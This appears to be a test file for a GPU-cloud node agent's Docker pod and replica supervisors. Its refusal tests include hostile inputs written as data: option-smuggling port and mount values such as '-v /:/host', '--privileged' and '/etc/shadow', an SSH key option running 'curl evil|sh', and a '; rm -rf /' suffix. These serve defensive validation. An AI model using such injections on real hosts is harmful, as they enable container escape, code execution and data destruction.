import { randomUUID } from "node:crypto";
import { existsSync, readFileSync, statSync } from "node:fs";
import path from "node:path";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { ApiError } from "@/agent/src/client";
import { DockerLauncher, dockerClientEnv, dockerRunArgs, RefusedSpec, type ContainerSpec, type Launcher } from "@/agent/src/container";
import { LogSpool } from "@/agent/src/log-spool";
import { PlacementBook, placementKey } from "@/agent/src/placement-book";
import { PodSupervisor, type PodReport } from "@/agent/src/pod-supervisor";
import { PortPool } from "@/agent/src/port-pool";
import { ReplicaSupervisor } from "@/agent/src/replica-supervisor";
import { detectNodeAddress } from "@/agent/src/node-info";
import type { PodAssignment, ReplicaAssignment } from "@/lib/fleet/assignments";
import { freePort } from "@/scripts/lib/embedded-db";
import { dockerStandin } from "../support/docker-standin";
import { tempDir } from "../support/temp-dir";
import { until } from "../support/wait";

// The node agent runs a pod as one long-lived container with its SSH port published, its other
// ports behind the agent's access guard (tests/unit/agent-access-guard.test.ts) and its SSH key
// installed, and reports the host ports back, fenced; the command line is asserted through a
// docker stand-in, hostile inputs included.

const limits = { cpus: 8, memoryMb: 65_536, pids: 16_384 };
const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHxuuJN4z0n9G0mAikmM8JdYo1BeQ0OS3O9GQ9m3mE5W me@laptop";

const pod = (id: string, o: Partial<PodAssignment> = {}): PodAssignment => ({
  kind: "pod",
  pod_id: id,
  pod_name: "notebook",
  attempt: 1,
  fence: randomUUID(),
  gpu_ids: ["g0", "g1"],
  logs_path: `/api/pods/${id}/logs`,
  status_path: `/api/pods/${id}/status`,
  image: "runpod/pytorch:2.4.0",
  ports: [22, 8888],
  ssh_public_key: KEY,
  access_secret: "access-secret-of-this-pod-placement-0123456",
  ...o,
});

/** Host ports handed out from free ones of this machine, in order (guards really listen on them). */
class ListPool extends PortPool {
  constructor(private readonly free: number[]) {
    super(1024, 65_535);
  }
  override take(count: number): number[] | null {
    return this.free.length >= count ? this.free.splice(0, count) : null;
  }
}

async function supervisor(
  launcherEnv: Record<string, string | undefined>,
  sent: Array<{ path: string; report: PodReport }>,
  o: { fail?: () => Error } = {},
) {
  const dir = tempDir("pods-");
  const book = new PlacementBook(path.join(dir, "placements.json"));
  const hostPorts: number[] = [];
  for (let i = 0; i < 12; i++) hostPorts.push(await freePort());
  const sup = new PodSupervisor({
    launcher: new DockerLauncher(launcherEnv),
    logs: new LogSpool(path.join(dir, "logs")),
    book,
    ports: new ListPool([...hostPorts]),
    guardHost: "127.0.0.1",
    stateDir: dir,
    gpuIndexOf: (id) => ({ g0: 0, g1: 1, g2: 2 })[id],
    limits: () => limits,
    send: async (p, report) => {
      if (o.fail) throw o.fail();
      sent.push({ path: p, report });
    },
  });
  return { sup, book, dir, hostPorts };
}

describe("a pod's container command line", () => {
  const base: ContainerSpec = {
    name: "gpuforge-pod-p1-1",
    image: "runpod/pytorch:2.4.0",
    gpus: [0, 1],
    env: { GPUFORGE_POD_ID: "p1" },
    labels: { "gpuforge.pod": "p1" },
    limits,
  };

  it("publishes each port as one --publish argument and mounts the key read-only, before `--` and the image", () => {
    const args = dockerRunArgs({
      ...base,
      publish: [
        { hostPort: 40022, containerPort: 22 },
        { hostPort: 40888, containerPort: 8888, hostIp: "10.0.0.7" },
      ],
      mounts: [{ source: "/var/lib/gpuforge-agent/pods/p1-1/authorized_keys", target: "/root/.ssh/authorized_keys" }],
    });
    const before = args.slice(0, args.indexOf("--"));
    expect(before).toEqual(expect.arrayContaining(["--publish", "40022:22/tcp", "--publish", "10.0.0.7:40888:8888/tcp"]));
    expect(before).toContain(
      "type=bind,source=/var/lib/gpuforge-agent/pods/p1-1/authorized_keys,target=/root/.ssh/authorized_keys,readonly",
    );
    expect(args.slice(args.indexOf("--"))).toEqual(["--", "runpod/pytorch:2.4.0"]);
    expect(before).toContain("gpuforge-workloads");
    expect(before).not.toContain("--privileged");
  });

  it("refuses ports, addresses and mounts that could carry an option or a second mapping", () => {
    const hostile: Array<Partial<ContainerSpec>> = [
      { publish: [{ hostPort: Number("40022 -v /:/host"), containerPort: 22 }] },
      { publish: [{ hostPort: 40022, containerPort: "22 --privileged" as unknown as number }] },
      { publish: [{ hostPort: 0, containerPort: 22 }] },
      { publish: [{ hostPort: 70000, containerPort: 22 }] },
      { publish: [{ hostPort: 40022, containerPort: 22.5 }] },
      {
        publish: [
          { hostPort: 40022, containerPort: 22 },
          { hostPort: 40022, containerPort: 8888 },
        ],
      },
      { publish: [{ hostPort: 40022, containerPort: 22, hostIp: "0.0.0.0:1:2" }] },
      { publish: [{ hostPort: 40022, containerPort: 22, hostIp: "--privileged" }] },
      { mounts: [{ source: "/etc/shadow,target=/x", target: "/y" }] },
      { mounts: [{ source: "/var/lib/../../etc", target: "/y" }] },
      { mounts: [{ source: "relative/path", target: "/y" }] },
    ];
    for (const h of hostile) expect(() => dockerRunArgs({ ...base, ...h }), JSON.stringify(h)).toThrow(RefusedSpec);
  });

  it("whatever the ports, every --publish value is exactly `[ip:]host:container/tcp` of whole numbers (property)", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({
            hostPort: fc.oneof(fc.integer({ min: -5, max: 70000 }), fc.double()),
            containerPort: fc.oneof(fc.integer({ min: -5, max: 70000 }), fc.double()),
          }),
          { maxLength: 6 },
        ),
        (publish) => {
          let args: string[];
          try {
            args = dockerRunArgs({ ...base, publish });
          } catch (e) {
            return e instanceof RefusedSpec;
          }
          const values = args.filter((_, i) => args[i - 1] === "--publish");
          return (
            values.length === publish.length &&
            values.every((v) => /^\d{1,5}:\d{1,5}\/tcp$/.test(v)) &&
            args.indexOf("--") === args.length - 2
          );
        },
      ),
    );
  });
});

describe("the pod supervisor, with a docker stand-in on PATH", () => {
  it("runs the pod with its GPUs, ports and key, reports it running with its host ports, stops it when unassigned and confirms", async () => {
    const docker = dockerStandin({ entrypoint: "sleep 30" });
    const sent: Array<{ path: string; report: PodReport }> = [];
    const { sup, book, dir, hostPorts } = await supervisor(dockerClientEnv({ ...docker.env, GPUFORGE_AGENT_KEY: "gf_agentkey" }), sent);
    const a = pod("p1");
    sup.reconcile([a]);
    await until(() => docker.runs().length === 1);
    const run = docker.runs()[0]!;
    expect(run).toEqual(
      dockerRunArgs({
        name: "gpuforge-pod-p1-1",
        image: "runpod/pytorch:2.4.0",
        gpus: [0, 1],
        env: { GPUFORGE_POD_ID: "p1", GPUFORGE_POD_NAME: "notebook", PUBLIC_KEY: KEY },
        labels: { "gpuforge.pod": "p1", "gpuforge.attempt": "1" },
        limits,
        // SSH alone is published (the tenant's key guards it); 8888 is behind the agent's access guard
        publish: [{ hostPort: hostPorts[0]!, containerPort: 22 }],
        mounts: [{ source: path.join(dir, "pods", "p1-1", "authorized_keys"), target: "/root/.ssh/authorized_keys" }],
      }),
    );
    // the key file is the agent's own, one line, readable by root alone
    const keyFile = path.join(dir, "pods", "p1-1", "authorized_keys");
    expect(readFileSync(keyFile, "utf8")).toBe(`${KEY}\n`);
    expect(statSync(keyFile).mode & 0o777).toBe(0o600);
    expect(JSON.stringify(docker.calls())).not.toContain("gf_agentkey");

    await until(() => (void sup.tick(), sent.length === 1));
    expect(sent[0]).toEqual({
      path: "/api/pods/p1/status",
      report: {
        attempt: 1,
        fence: a.fence,
        status: "running",
        ports: [
          { container_port: 22, host_port: hostPorts[0] },
          { container_port: 8888, host_port: hostPorts[1] },
        ],
      },
    });
    // a placement this node started is never started again, whatever the heartbeats say
    sup.reconcile([a]);
    sup.reconcile([a]);
    expect(docker.runs()).toHaveLength(1);

    sup.reconcile([]);
    await until(() => book.get(placementKey(a))?.state === "stopped");
    await sup.flush();
    expect(sent.at(-1)).toEqual({ path: "/api/pods/p1/status", report: { attempt: 1, fence: a.fence, status: "stopped" } });
    expect(docker.calls().some((c) => c.args[0] === "stop" && c.args.at(-1) === "gpuforge-pod-p1-1")).toBe(true);
    expect(existsSync(keyFile)).toBe(false);
  });

  it("reports a container that ended by itself exited, with its code; a pod without a key gets neither mount nor PUBLIC_KEY", async () => {
    const docker = dockerStandin({ entrypoint: "exit 3" });
    const sent: Array<{ path: string; report: PodReport }> = [];
    const { sup } = await supervisor(docker.env, sent);
    const a = pod("p2", { ssh_public_key: undefined, ports: [8888] });
    sup.reconcile([a]);
    await until(() => (void sup.tick(), sent.some((s) => s.report.status === "exited")));
    expect(sent.find((s) => s.report.status === "exited")!.report).toMatchObject({ status: "exited", exit_code: 3, fence: a.fence });
    const run = docker.runs()[0]!;
    expect(run.join(" ")).not.toMatch(/PUBLIC_KEY|--mount/);
  });

  it("refuses, running nothing, a key that is not one OpenSSH line, a port that is not one, and GPUs the node lacks", async () => {
    const docker = dockerStandin();
    const sent: Array<{ path: string; report: PodReport }> = [];
    const { sup } = await supervisor(docker.env, sent);
    sup.reconcile([
      pod("k1", { ssh_public_key: `command="curl evil|sh" ${KEY}` }),
      pod("k2", { ssh_public_key: `${KEY}\nssh-rsa AAAA second` }),
      pod("k3", { ports: [22, 0] }),
      pod("k4", { ports: ["8888 -v /:/host" as unknown as number] }),
      pod("k5", { gpu_ids: ["g9"] }),
    ]);
    await sup.flush();
    expect(sent.map((s) => [s.path, s.report.status, (s.report as { exit_code?: number }).exit_code])).toEqual(
      ["k1", "k2", "k3", "k4", "k5"].map((id) => [`/api/pods/${id}/status`, "exited", 125]),
    );
    expect(docker.runs()).toEqual([]);
  });

  it("drops a report the control plane refuses as stale, and keeps one it could not deliver", async () => {
    const docker = dockerStandin({ entrypoint: "sleep 30" });
    let failure: () => Error = () => new Error("ECONNREFUSED");
    const { sup } = await supervisor(docker.env, [], { fail: () => failure() });
    const a = pod("s1");
    sup.reconcile([a]);
    await until(() => docker.runs().length === 1);
    await until(() => (void sup.tick(), sup.hasUnsent(placementKey(a))));
    // the control plane cannot be reached: the report waits for the next tick
    await sup.flush();
    expect(sup.hasUnsent(placementKey(a))).toBe(true);
    // it answers that this placement is stale: dropped, never retried
    failure = () => new ApiError(409, { error: { code: "stale_report" } });
    await sup.flush();
    expect(sup.hasUnsent(placementKey(a))).toBe(false);
    sup.interruptAll("test over");
  });
});

describe("replicas on the node", () => {
  it("removes an earlier container of the replica's name before starting, and waits until it is gone", () => {
    // an asynchronous `docker rm -f` could land after `docker run` created the new container and
    // remove that one instead (it did, in a loaded test run): the removal must finish first
    const calls: string[] = [];
    let exited: ((code: number) => void) | undefined;
    const launcher: Launcher = {
      start: (spec) => {
        calls.push(`start ${spec.name}`);
        return { onOutput: () => {}, onExit: (fn) => void (exited = fn), stop: () => {} };
      },
      isRunning: () => true,
      address: () => "172.18.0.2",
      adopt: () => null,
      remove: (name) => void calls.push(`remove ${name}`),
      removeNow: (name) => void calls.push(`removeNow ${name}`),
      runtime: () => "27.3.1",
    };
    const a: ReplicaAssignment = {
      kind: "endpoint_replica",
      replica_id: "r2",
      endpoint_id: "ep-1",
      endpoint_name: "chat",
      model: "org/model",
      attempt: 1,
      fence: randomUUID(),
      gpu_ids: ["a"],
      metrics_path: "/api/endpoints/ep-1/metrics",
      serving_port: 8000,
      address_path: "/api/endpoints/ep-1/replicas/r2/address",
      logs_path: "/api/endpoints/ep-1/replicas/r2/logs",
      report_token: "gfw_t",
      access_secret: "access-secret-of-this-replica-placement-012",
    };
    const sup = new ReplicaSupervisor({
      launcher,
      logs: new LogSpool(tempDir("spool-")),
      baseUrl: "https://cp",
      serveImage: "vllm/vllm-openai:v0.6.3",
      gpuIndexOf: () => 0,
      limits: () => limits,
      reportUnhealthy: async () => {},
      restartAfterMs: 0,
    });
    sup.reconcile([a]);
    expect(calls).toEqual(["removeNow gpuforge-replica-r2", "start gpuforge-replica-r2"]);
    sup.stopAll("test over");
    exited?.(143);
  });
});

describe("ports and addresses of the node", () => {
  it("hands out each host port of the range once, and none when the range is spent", () => {
    const pool = new PortPool(40_000, 40_003, () => 0.99);
    const a = pool.take(3)!;
    expect(new Set(a).size).toBe(3);
    expect(a.every((p) => p >= 40_000 && p <= 40_003)).toBe(true);
    expect(pool.take(2)).toBeNull();
    pool.release([a[0]!]);
    expect(pool.take(1)).toEqual([a[0]]);
    expect(() => PortPool.parse("22-80")).toThrow();
    expect(() => PortPool.parse("40000-44999; rm -rf /")).toThrow();
  });

  it("reports the configured address, else a physical interface's, never a container bridge's or link-local", () => {
    expect(detectNodeAddress(" 10.1.2.3 ")).toBe("10.1.2.3");
    const ifaces = {
      docker0: [{ address: "172.17.0.1", family: "IPv4", internal: false }],
      "br-1234": [{ address: "172.18.0.1", family: "IPv4", internal: false }],
      lo: [{ address: "127.0.0.1", family: "IPv4", internal: true }],
      eth0: [
        { address: "169.254.3.3", family: "IPv4", internal: false },
        { address: "10.20.4.17", family: "IPv4", internal: false },
      ],
    } as unknown as NodeJS.Dict<import("node:os").NetworkInterfaceInfo[]>;
    expect(detectNodeAddress(undefined, ifaces)).toBe("10.20.4.17");
  });
});
